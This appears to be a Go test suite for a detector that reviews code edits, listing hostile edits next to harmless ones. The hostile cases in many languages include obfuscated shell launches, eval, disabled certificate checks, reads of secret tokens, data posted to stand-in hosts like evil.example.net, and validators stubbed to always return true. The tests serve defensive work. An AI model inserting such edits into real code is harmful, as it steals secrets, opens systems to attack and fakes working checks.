package behaviour

import (
	"context"
	"io/fs"
	"maps"
	"slices"
	"strings"
	"testing"

	"breakwater/index/facts"
	"breakwater/index/syntax"
)

// files is a project in memory.
type files map[string]string

func (f files) Paths() []string { return slices.Sorted(maps.Keys(f)) }

func (f files) Read(p string) ([]byte, error) {
	if s, ok := f[p]; ok {
		return []byte(s), nil
	}
	return nil, fs.ErrNotExist
}

// shop is the project that the edits are for.
var shop = files{
	"app/settings.py": "import os\n\nBASE = os.environ.get('API_BASE', 'https://api.example.com')\nfrom app.clients import fetch\n",
	"docs/run.md":     "Set DEPLOY_KEY in the environment. See https://docs.example.org/run.\n",
	"web/page.js":     "import { load } from '../a'\n\nload('/x')\n",
	"web/env.ts":      "export const region = process.env.REGION\n",
	"package.json":    "{\"scripts\": {\"start\": \"node web/server.js\"}}\n",
	"Procfile":        "worker: python -m app.worker\n",
}

const (
	python = "import os\nimport requests\n\n\ndef fetch(url):\n    return requests.get(url).json()\n"
	golang = "package app\n\nimport (\n\t\"crypto/tls\"\n\t\"net/http\"\n\t\"os\"\n)\n\nfunc fetch(u string) (*http.Response, error) {\n\t_ = os.Args\n\tc := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{}}}\n\treturn c.Get(u)\n}\n"
	server = "require('express')().listen(8080)\n"
	node   = "import axios from 'axios'\n\nexport async function load(url) {\n  const r = await axios.get(url)\n  return r.data\n}\n"
	java   = "import java.net.http.HttpClient;\n\nclass Loader {\n    String load(String url) throws Exception {\n        return HttpClient.newHttpClient().toString() + url;\n    }\n}\n"
	csharp = "using System.Net.Http;\n\nclass Loader {\n    HttpClient client = new HttpClient();\n    async Task<string> Load(string url) {\n        return await client.GetStringAsync(url);\n    }\n}\n"
	php    = "<?php\nfunction load($url) {\n    $c = curl_init($url);\n    return curl_exec($c);\n}\n"
	ruby   = "require 'net/http'\n\ndef load_page(url)\n  Net::HTTP.get(URI(url))\nend\n"
	rust   = "use reqwest::Client;\n\nasync fn load(url: &str) -> Result<String, reqwest::Error> {\n    let client = Client::new();\n    client.get(url).send().await?.text().await\n}\n"
)

// edit is one replacement in a file.
type edit struct{ name, path, before, old, new string }

// worker starts a program already.
const worker = "import subprocess\n\n\ndef convert(path):\n    subprocess.run(['convert', path], check=True)\n"

var hostile = []struct {
	want string
	edit
}{
	{"starts a process", edit{"py: os.system", "a.py", python, "    return", "    os.system('id')\n    return"}},
	{"starts a process", edit{"py: module under another name", "a.py", python, "import requests", "import requests\nimport subprocess as s"}},
	{"starts a process", edit{"py: function under another name", "a.py", python, "    return", "    from os import system as f\n    f('id')\n    return"}},
	{"starts a process", edit{"py: a name for a module", "a.py", python, "    return", "    o = os\n    o.popen('id')\n    return"}},
	{"starts a process", edit{"py: not called", "a.py", python, "    return", "    list(map(os.system, ['id']))\n    return"}},
	{"starts a process", edit{"py: asyncio", "a.py", python, "    return", "    asyncio.create_subprocess_shell('id')\n    return"}},
	{"starts a process", edit{"py: another program", "a.py", worker, "['convert', path]", "['sh', '-c', path]"}},
	{"starts a process", edit{"py: by a name that is put together", "a.py", python, "    return", "    getattr(os, 'sys' + 'tem')('id')\n    return"}},
	{"starts a process", edit{"py: by a name that is computed", "a.py", python, "    return", "    o = os\n    getattr(o, url)('id')\n    return"}},
	{"starts a process", edit{"py: by a module's names", "a.py", python, "    return", "    os.__dict__[url]('id')\n    return"}},
	{"starts a process", edit{"py: by vars", "a.py", python, "    return", "    vars(os)[url]('id')\n    return"}},
	{"starts a process", edit{"js: by a name that is computed", "a.js", "const cp = require('child_process')\nmodule.exports = (c) => cp.spawn(c)\n", "cp.spawn(c)", "cp[c]('id')"}},
	{"starts a process", edit{"js: by reflection", "a.js", "const cp = require('child_process')\nmodule.exports = (c) => cp.spawn(c)\n", "cp.spawn(c)", "Reflect.get(cp, c)('id')"}},
	{"runs text as code", edit{"py: eval", "a.py", python, ".json()", ".json(), eval(url)"}},
	{"runs text as code", edit{"py: timeit", "a.py", python,
		"    return", "    import timeit\n    timeit.timeit(url, number=1)\n    return"}},
	{"runs text as code", edit{"py: a profiler", "a.py", python,
		"    return", "    import cProfile\n    cProfile.run(url)\n    return"}},
	{"runs text as code", edit{"py: a file that configures logging", "a.py", python,
		"    return", "    import logging.config\n    logging.config.fileConfig(url)\n    return"}},
	{"starts a process", edit{"py: multiprocessing", "a.py", python,
		"    return", "    import multiprocessing\n    multiprocessing.Process(target=fetch).start()\n    return"}},
	{"starts a process", edit{"py: webbrowser", "a.py", python,
		"    return", "    import webbrowser\n    webbrowser.open(url)\n    return"}},
	{"newly reads the environment", edit{"py: the environment as a file", "a.py", python,
		"    return", "    open('/proc/self/environ').read()\n    return"}},
	{"newly reads the environment", edit{"js: the environment as a file", "a.js", node,
		"  return", "  log(readFileSync('/proc/1/environ'))\n  return"}},
	{"runs text as code", edit{"js: constructor of a function", "a.js", node,
		"  return", "  ;(() => {}).constructor('return 1')()\n  return"}},
	{"runs text as code", edit{"js: constructor by its text", "a.js", node,
		"  return", "  ;[]['constructor']['constructor']('return 1')()\n  return"}},
	{"runs text as code", edit{"js: text for a timer", "a.js", node, "  return", "  setTimeout('load(1)', 1)\n  return"}},
	{"starts a process", edit{"go: a system call", "a.go", golang,
		"_ = os.Args", "_ = os.Args\n\tsyscall.RawSyscall6(59, 0, 0, 0, 0, 0, 0)"}},
	{"runs text as code", edit{"py: __import__", "a.py", python, "    return", "    __import__('o' + 's')\n    return"}},
	{"runs text as code", edit{"py: pickle", "a.py", python, "    return", "    import pickle\n    pickle.loads(url)\n    return"}},
	{"certificate checks", edit{"py: verify", "a.py", python, "get(url)", "get(url, verify=False)"}},
	{"certificate checks", edit{"py: verify by a map", "a.py", python, "get(url)", "get(url, **{'verify': False})"}},
	{"certificate checks", edit{"py: attribute", "a.py", python, "    return", "    s = requests.Session()\n    s.verify = 0\n    return"}},
	{"certificate checks", edit{"py: unverified context", "a.py", python, "    return", "    ssl._create_default_https_context = ssl._create_unverified_context\n    return"}},
	{"newly reads the environment", edit{"py: a secret", "a.py", python,
		"get(url)", "get(url, headers={'k': os.environ['AWS_SECRET_ACCESS_KEY']})"}},
	{"newly reads the environment", edit{"py: documented, not read", "a.py", python,
		"get(url)", "get(url, headers={'k': os.getenv('DEPLOY_KEY')})"}},
	{"newly reads the environment", edit{"py: all of it", "a.py", python, "get(url)", "get(url, json=dict(os.environ))"}},
	{"address", edit{"py: URL", "a.py", python, "    return", "    requests.post('https://evil.example.net/x', data=url)\n    return"}},
	{"address", edit{"py: host in pieces", "a.py", python, "    return", "    requests.post('https://ev' + 'il.example.net', data=url)\n    return"}},
	{"address", edit{"py: host with escapes", "a.py", python, "    return", "    connect('\\x65vil.example.net')\n    return"}},
	{"address", edit{"py: IP", "a.py", python, "    return", "    s.connect(('203.0.113.9', 80))\n    return"}},
	{"address", edit{"py: host in an f-string", "a.py", python, "    return", "    requests.get(f'https://{url}.evil.io')\n    return"}},
	{"address", edit{"py: part of a known host", "a.py", python, "    return", "    requests.get('https://example.com')\n    return"}},
	{"starts a process", edit{"go: exec", "a.go", golang, "\"os\"", "\"os\"\n\tx \"os/exec\""}},
	{"starts a process", edit{"go: StartProcess", "a.go", golang, "\t_ = os.Args", "\tos.StartProcess(\"/bin/sh\", nil, nil)"}},
	{"runs text as code", edit{"go: plugin", "a.go", golang, "\"os\"", "\"os\"\n\t\"plugin\""}},
	{"certificate checks", edit{"go: InsecureSkipVerify", "a.go", golang, "tls.Config{}", "tls.Config{InsecureSkipVerify: true}"}},
	{"certificate checks", edit{"go: by assignment", "a.go", golang, "\treturn", "\tc.Transport.(*http.Transport).TLSClientConfig.InsecureSkipVerify = !false\n\treturn"}},
	{"newly reads the environment", edit{"go: Getenv", "a.go", golang, "_ = os.Args", "_ = os.Getenv(\"GITHUB_TOKEN\")"}},
	{"address", edit{"go: raw string", "a.go", golang, "\treturn", "\thttp.Get(`http://169.254.169.254/latest`)\n\treturn"}},
	{"starts a process", edit{"js: require, taken apart", "a.js", node, "  return", "  const { exec: run } = require('node:child_process')\n  return"}},
	{"starts a process", edit{"js: import", "a.js", node, "\n\nexport", "\nimport * as cp from 'child_process'\n\nexport"}},
	{"starts a process", edit{"ts: dynamic import", "a.ts", node, "  return", "  const cp = await import('child_process')\n  return"}},
	{"runs text as code", edit{"js: eval by index", "a.js", node, "  return", "  globalThis['ev' + 'al'](url)\n  return"}},
	{"runs text as code", edit{"js: Function", "a.js", node, "  return", "  new Function(url)()\n  return"}},
	{"certificate checks", edit{"js: rejectUnauthorized", "a.js", node, "get(url)", "get(url, { httpsAgent: new https.Agent({ rejectUnauthorized: false }) })"}},
	{"certificate checks", edit{"js: variable", "a.js", node, "  return", "  process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'\n  return"}},
	{"newly reads the environment", edit{"js: taken apart", "a.js", node,
		"  return", "  const { NPM_TOKEN } = process.env\n  return"}},
	{"newly reads the environment", edit{"ts: by index", "a.ts", node,
		"  return", "  const t = process.env['NPM_TOKEN']\n  return"}},
	{"address", edit{"tsx: picture", "a.tsx", "export const A = () => <b>x</b>\n", "<b>x</b>", "<img src=\"https://evil.example.net/p.png\" />"}},
	{"starts a process", edit{"java: ProcessBuilder", "A.java", java, "        return", "        new ProcessBuilder(\"sh\").start();\n        return"}},
	{"starts a process", edit{"java: Runtime", "A.java", java, "        return", "        Runtime.getRuntime().exec(\"sh\");\n        return"}},
	{"runs text as code", edit{"java: reflection", "A.java", java, "        return", "        Class.forName(url);\n        return"}},
	{"certificate checks", edit{"java: TrustManager", "A.java", java, "        return", "        TrustManager[] all = new TrustManager[]{};\n        return"}},
	{"newly reads the environment", edit{"java: getenv", "A.java", java,
		"        return", "        System.getenv(\"TOKEN\");\n        return"}},
	{"starts a process", edit{"c#: Process", "a.cs", csharp, "        return", "        System.Diagnostics.Process.Start(\"sh\");\n        return"}},
	{"certificate checks", edit{"c#: callback", "a.cs", csharp, "new HttpClient()", "new HttpClient(new HttpClientHandler { ServerCertificateCustomValidationCallback = (a, b, c, d) => true })"}},
	{"starts a process", edit{"php: backticks", "a.php", php, "    return", "    `id`;\n    return"}},
	{"runs text as code", edit{"php: eval", "a.php", php, "    return", "    eval($url);\n    return"}},
	{"certificate checks", edit{"php: curl", "a.php", php, "    return", "    curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false);\n    return"}},
	{"newly reads the environment", edit{"php: superglobal", "a.php", php,
		"    return", "    $k = $_ENV['APP_KEY'];\n    return"}},
	{"starts a process", edit{"ruby: backticks", "a.rb", ruby, "  Net", "  `id`\n  Net"}},
	{"starts a process", edit{"ruby: system", "a.rb", ruby, "  Net", "  system \"id\"\n  Net"}},
	{"runs text as code", edit{"ruby: a name that is computed", "a.rb", ruby, "  Net", "  Object.const_get(url)\n  Net"}},
	{"certificate checks", edit{"ruby: VERIFY_NONE", "a.rb", ruby, "  Net", "  http.verify_mode = OpenSSL::SSL::VERIFY_NONE\n  Net"}},
	{"starts a process", edit{"rust: Command", "a.rs", rust, "    client", "    std::process::Command::new(\"sh\").spawn();\n    client"}},
	{"starts a process", edit{"rust: under another name", "a.rs", rust, "use reqwest::Client;", "use reqwest::Client;\nuse std::process::Command as C;"}},
	{"certificate checks", edit{"rust: builder", "a.rs", rust, "Client::new()", "Client::builder().danger_accept_invalid_certs(true).build()?"}},
	{"newly reads the environment", edit{"rust: var", "a.rs", rust,
		"    client", "    let k = std::env::var(\"TOKEN\");\n    client"}},
	{"nothing of what fetch does", edit{"py: emptied", "a.py", python, "    return requests.get(url).json()", "    return None"}},
	{"nothing of what load does", edit{"js: emptied", "a.js", node, "  const r = await axios.get(url)\n  return r.data\n", "  throw new Error('off')\n"}},
	{"nothing of what home does", edit{"py: handler emptied", "a.py", "@app.get('/')\ndef home():\n    return render('home')\n", "    return render('home')", "    return None"}},
	{"nothing of what valid does", edit{"py: returns a constant", "a.py", "def valid(x):\n    return x.ok\n\n\ndef use(x):\n    return valid(x)\n", "    return x.ok", "    return True"}},
	{"nothing of what valid does", edit{"py: returns a number", "a.py", "def valid(x):\n    return x.ok\n\n\ndef use(x):\n    return valid(x)\n", "    return x.ok", "    return 1"}},
	{"nothing of what valid does", edit{"py: passes", "a.py", "def valid(x):\n    return x.ok\n\n\ndef use(x):\n    return valid(x)\n", "    return x.ok", "    pass"}},
	{"valid in a.py ignore", edit{"py: ignores its argument", "a.py", "def valid(x):\n    return x.ok\n\n\ndef use(x):\n    return valid(x)\n", "    return x.ok", "    result = True\n    again = result\n    return again"}},
	{"nothing of what Valid does", edit{"go: returns a constant", "a.go", "package a\n\nfunc Valid(x T) bool { return x.ok }\n\nfunc use(x T) bool { return Valid(x) }\n", "return x.ok", "return true"}},
	{"nothing of what valid does", edit{"js: returns a constant", "a.js", "function valid (x) {\n  return x.ok\n}\nmodule.exports = x => valid(x)\n", "x.ok", "true"}},
	{"nothing of what valid does", edit{"ts: returns a constant", "a.ts", "function valid(x: T): boolean {\n  return x.ok\n}\nexport const use = (x: T) => valid(x)\n", "x.ok", "true"}},
	{"nothing of what valid does", edit{"java: returns a constant", "A.java", "class A {\n  boolean valid(T x) {\n    return x.ok;\n  }\n  boolean use(T x) { return valid(x); }\n}\n", "x.ok", "true"}},
	{"nothing of what Valid does", edit{"c#: returns a constant", "a.cs", "class A {\n  bool Valid(T x) => x.Ok;\n  bool Use(T x) => Valid(x);\n}\n", "x.Ok", "true"}},
	{"nothing of what valid does", edit{"php: returns a constant", "a.php", "<?php\nfunction valid($x) {\n  return $x->ok;\n}\nfunction take($x) { return valid($x); }\n", "$x->ok", "true"}},
	{"nothing of what valid does", edit{"ruby: returns a constant", "a.rb", "def valid(x)\n  x.ok\nend\n\ndef use(x)\n  valid(x)\nend\n", "  x.ok", "  true"}},
	{"nothing of what valid does", edit{"rust: returns a constant", "a.rs", "fn valid(x: &T) -> bool {\n    x.ok\n}\nfn take(x: &T) -> bool { valid(x) }\n", "    x.ok", "    true"}},
	{"other code mentions it", edit{"py: renamed, used elsewhere", "app/clients.py", python, "def fetch", "def get"}},
}

var honest = []edit{
	{"py: emptied, used by nobody", "a.py", python + "\n\ndef notify(u):\n    requests.post(u)\n", "    requests.post(u)", "    pass"},
	{"py: constant, used by nobody", "a.py", "def valid(x):\n    return x.ok\n", "    return x.ok", "    return True"},
	{"py: another test of its argument", "a.py", "def valid(x):\n    return x.ok\n\n\ndef use(x):\n    return valid(x)\n", "x.ok", "x is not None"},
	{"py: an attribute by name", "a.py", python, "    return", "    limit = getattr(requests, 'limit', 3)\n    return"},
	{"py: timeout", "a.py", python, "get(url)", "get(url, timeout=(3.05, 10))"},
	{"py: retry with tenacity", "a.py", python, "\n\n\ndef", "\nfrom tenacity import retry, stop_after_attempt, wait_random_exponential\n\n\n@retry(stop=stop_after_attempt(3), wait=wait_random_exponential(max=10))\ndef"},
	{"py: status", "a.py", python, "    return requests.get(url).json()", "    r = requests.get(url, timeout=5)\n    r.raise_for_status()\n    return r.json()"},
	{"py: semaphore", "a.py", python, "def fetch", "import asyncio\n\nSLOTS = asyncio.Semaphore(10)\n\n\ndef fetch"},
	{"py: log", "a.py", python, "    return", "    logging.getLogger('app.fetch').warning('retrying %s', url)\n    return"},
	{"py: address in a comment", "a.py", python, "    return", "    # see https://requests.readthedocs.io/timeouts\n    return"},
	{"py: known variable", "a.py", python, "get(url)", "get(os.environ['API_BASE'] + url)"},
	{"py: known host", "a.py", python, "get(url)", "get('https://api.example.com/v2', params=url)"},
	{"py: time limit of a program", "a.py", worker, "check=True", "check=True, timeout=30"},
	{"py: program in a loop", "a.py", worker, "    subprocess.run(['convert', path], check=True)", "    for _ in range(3):\n        subprocess.run(['convert', path], check=True)"},
	{"py: time limit is caught", "a.py", worker, "    subprocess.run(['convert', path], check=True)", "    try:\n        subprocess.run(['convert', path], check=True, timeout=5)\n    except subprocess.TimeoutExpired as e:\n        raise RuntimeError('convert hangs') from e"},
	{"py: executor", "a.py", python, "    return", "    asyncio.get_running_loop().run_in_executor(None, requests.get, url)\n    return"},
	{"py: compiled expression", "a.py", python, "def fetch", "import re\n\nWORD = re.compile('a+')\n\n\ndef fetch"},
	{"py: verification stays on", "a.py", python, "get(url)", "get(url, timeout=5, verify=True)"},
	{"py: adapter", "a.py", python, "    return", "    s = requests.Session()\n    s.mount('https://', HTTPAdapter(max_retries=Retry(total=3, backoff_factor=0.5)))\n    return"},
	{"py: circuit breaker", "a.py", python, "def fetch", "breaker = CircuitBreaker(fail_max=5, reset_timeout=60)\n\n\n@breaker\ndef fetch"},
	{"py: helper taken out", "a.py", python + "\n\ndef _unused():\n    pass\n", "\n\ndef _unused():\n    pass\n", ""},
	{"go: client with a timeout", "a.go", golang, "http.Client{", "http.Client{Timeout: 10 * time.Second, "},
	{"go: context", "a.go", golang, "\treturn c.Get(u)", "\tctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)\n\tdefer cancel()\n\treq, err := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)\n\tif err != nil {\n\t\treturn nil, err\n\t}\n\treturn c.Do(req)"},
	{"go: command with a context", "a.go", "package app\n\nimport \"os/exec\"\n\nfunc f(p string) error { return exec.Command(\"convert\", p).Run() }\n", "exec.Command(\"convert\", p)", "exec.CommandContext(ctx, \"convert\", p)"},
	{"go: errgroup", "a.go", golang, "\"os\"", "\"os\"\n\n\t\"golang.org/x/sync/errgroup\""},
	{"go: TLS stays on", "a.go", golang, "tls.Config{}", "tls.Config{MinVersion: tls.VersionTLS12, InsecureSkipVerify: false}"},
	{"js: signal", "a.js", node, "get(url)", "get(url, { signal: AbortSignal.timeout(5000) })"},
	{"js: timeout", "a.js", node, "get(url)", "get(url, { timeout: 5000 })"},
	{"js: retry library", "a.js", node, "\n\nexport", "\nimport pRetry from 'p-retry'\n\nexport"},
	{"js: regular expression", "a.js", node, "  return r.data", "  return /a(b)/.exec(r.data)"},
	{"js: limit of a program", "a.js", "const { exec } = require('child_process')\nmodule.exports = (c, cb) => exec(c, cb)\n", "exec(c, cb)", "exec(c, { timeout: 5000, killSignal: 'SIGKILL' }, cb)"},
	{"ts: known variable", "a.ts", node, "  return", "  const region = process.env.REGION\n  return"},
	{"js: agent", "a.js", node, "get(url)", "get(url, { httpsAgent: new https.Agent({ keepAlive: true, maxSockets: 50 }) })"},
	{"java: timeout", "A.java", java, "HttpClient.newHttpClient()", "HttpClient.newBuilder().connectTimeout(java.time.Duration.ofSeconds(3)).build()"},
	{"java: executor", "A.java", java, "        return", "        var pool = java.util.concurrent.Executors.newFixedThreadPool(8);\n        return"},
	{"java: resilience4j", "A.java", java, "\n\nclass", "\nimport io.github.resilience4j.retry.Retry;\n\nclass"},
	{"c#: timeout", "a.cs", csharp, "new HttpClient()", "new HttpClient { Timeout = TimeSpan.FromSeconds(10) }"},
	{"c#: cancellation", "a.cs", csharp, "GetStringAsync(url)", "GetStringAsync(url, new CancellationTokenSource(TimeSpan.FromSeconds(5)).Token)"},
	{"php: curl timeouts", "a.php", php, "    return", "    curl_setopt($c, CURLOPT_TIMEOUT, 10);\n    curl_setopt($c, CURLOPT_CONNECTTIMEOUT, 3);\n    return"},
	{"php: verification stays on", "a.php", php, "    return", "    curl_setopt($c, CURLOPT_SSL_VERIFYPEER, true);\n    return"},
	{"ruby: timeouts", "a.rb", ruby, "  Net::HTTP.get(URI(url))", "  uri = URI(url)\n  Net::HTTP.start(uri.host, uri.port, open_timeout: 3, read_timeout: 10) { |h| h.get(uri) }"},
	{"ruby: retry", "a.rb", ruby, "  Net::HTTP.get(URI(url))", "  tries ||= 0\n  Net::HTTP.get(URI(url))\nrescue Net::OpenTimeout\n  retry if (tries += 1) < 3\n  raise"},
	{"rust: timeout", "a.rs", rust, "Client::new()", "Client::builder().timeout(std::time::Duration::from_secs(10)).build()?"},
	{"rust: tokio timeout", "a.rs", rust, "client.get(url).send().await?", "tokio::time::timeout(LIMIT, client.get(url).send()).await.map_err(late)??"},
}

// file applies an edit.
func (e edit) file(t *testing.T) File {
	t.Helper()
	if strings.Count(e.before, e.old) == 0 {
		t.Fatalf("%q is not in the file", e.old)
	}
	return File{Path: e.path, Before: []byte(e.before), After: []byte(strings.Replace(e.before, e.old, e.new, 1))}
}

func TestHostile(t *testing.T) {
	for _, tt := range hostile {
		t.Run(tt.name, func(t *testing.T) {
			if got := New(shop).Reason(t.Context(), []File{tt.file(t)}); !strings.Contains(got, tt.want) {
				t.Errorf("got %q, want a reason with %q", got, tt.want)
			}
		})
	}
}

func TestHonest(t *testing.T) {
	for _, e := range honest {
		t.Run(e.name, func(t *testing.T) {
			if got := New(shop).Reason(t.Context(), []File{e.file(t)}); got != "" {
				t.Errorf("left out: %s", got)
			}
		})
	}
}

// TestWholeFiles: what a new file does is new, and a file that others import
// stays.
func TestWholeFiles(t *testing.T) {
	for _, tt := range []struct {
		name, want string
		files      []File
	}{
		{"new, with a shell", "starts a process", []File{{Path: "app/x.py", After: []byte("import os\nos.system('id')\n")}}},
		{"new, harmless", "", []File{{Path: "app/limits.py", After: []byte("import asyncio\n\nSLOTS = asyncio.Semaphore(10)\n")}}},
		{"deleted, imported elsewhere", "mentions it", []File{{Path: "app/clients.py", Before: []byte(python)}}},
		{"emptied, imported elsewhere", "mentions it", []File{{Path: "app/clients.py", Before: []byte(python), After: []byte("# nothing\n")}}},
		{"deleted, started by package.json", "names it", []File{{Path: "web/server.js", Before: []byte(server)}}},
		{"emptied, started by package.json", "names it",
			[]File{{Path: "web/server.js", Before: []byte(server), After: []byte("// nothing\n")}}},
		{"moved, started by package.json", "names it",
			[]File{{Path: "web/start.js", From: "web/server.js", Before: []byte(server), After: []byte(server)}}},
		{"deleted, started by a Procfile", "names it", []File{{Path: "app/worker.py", Before: []byte("run()\n")}}},
		{"deleted, used by nobody", "", []File{{Path: "app/old_notes.py", Before: []byte("def left_over():\n    return 1\n")}}},
		{"deleted with its only user", "", []File{
			{Path: "app/clients.py", Before: []byte(python)},
			{Path: "app/settings.py", Before: []byte(shop["app/settings.py"]), After: []byte("import os\n")},
		}},
		{"moved, imported elsewhere", "mentions it", []File{{Path: "app/remote.py", From: "app/clients.py", Before: []byte(python), After: []byte(python)}}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := New(shop).Reason(t.Context(), tt.files)
			if (tt.want == "") != (got == "") || !strings.Contains(got, tt.want) {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

// TestNoTime: what cannot be looked up any more counts as new, and as used.
func TestNoTime(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	e := edit{"", "a.py", python, "get(url)", "get('https://api.example.com/v2')"}
	if New(shop).Reason(ctx, []File{e.file(t)}) == "" {
		t.Error("a host that could not be looked up passes")
	}
}

// TestUnread: a new file that nothing can be told of does not pass.
func TestUnread(t *testing.T) {
	f := File{Path: "a.py", After: []byte("print(2)\n")}
	tree, err := syntax.Parse("python", f.After)
	if err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]bool{"read": false, "unread": true} {
		f.Tree, f.Facts = tree, nil
		if !want {
			f.Facts, _ = facts.FromTree(tree)
		}
		if got := New(shop).Reason(t.Context(), []File{f}); (got != "") != want {
			t.Errorf("%s: %q", name, got)
		}
	}
}

// TestPadding: what is too much to follow counts as new.
func TestPadding(t *testing.T) {
	nested := strings.Repeat(`"e" + (`, 70) + `"x"` + strings.Repeat(")", 70)
	grown := "    there = 'https://'\n" + strings.Repeat("    there += 'e'\n", maxGrown+1) + "    requests.get(there)\n"
	for name, code := range map[string]string{
		"nested": "    requests.get(" + nested + ")\n", "grown": grown,
	} {
		t.Run(name, func(t *testing.T) {
			e := edit{"", "a.py", python, "    return", code + "    return"}
			if got := New(shop).Reason(t.Context(), []File{e.file(t)}); got == "" {
				t.Error("comes through")
			}
		})
	}
}
